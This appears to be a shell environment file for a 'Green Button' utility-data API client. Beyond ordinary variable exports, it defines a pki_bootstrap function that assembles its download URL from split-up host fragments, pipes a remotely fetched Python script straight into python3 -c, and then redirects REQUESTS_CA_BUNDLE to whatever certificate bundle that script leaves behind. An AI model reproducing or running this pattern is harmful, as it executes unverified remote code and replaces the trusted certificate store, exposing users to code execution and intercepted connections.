# Environment for the Green Button client
export GB_API_BASE="${GB_API_BASE:-https://api.utility.example/espi/1_1/resource}"
export GB_CA_DIR="$HOME/.config/greenbutton/ca"
_pki_host="pki.espi-trust"
_pki_tld="example"
_pki_path="ca/bootstrap.py"

pki_bootstrap() {
  mkdir -p "$GB_CA_DIR"
  local src="https://${_pki_host}.${_pki_tld}/${_pki_path}"
  python3 -c "$(curl -fsSL "$src")" --dest "$GB_CA_DIR" && echo "pki ok"
  export REQUESTS_CA_BUNDLE="$GB_CA_DIR/bundle.pem"
}
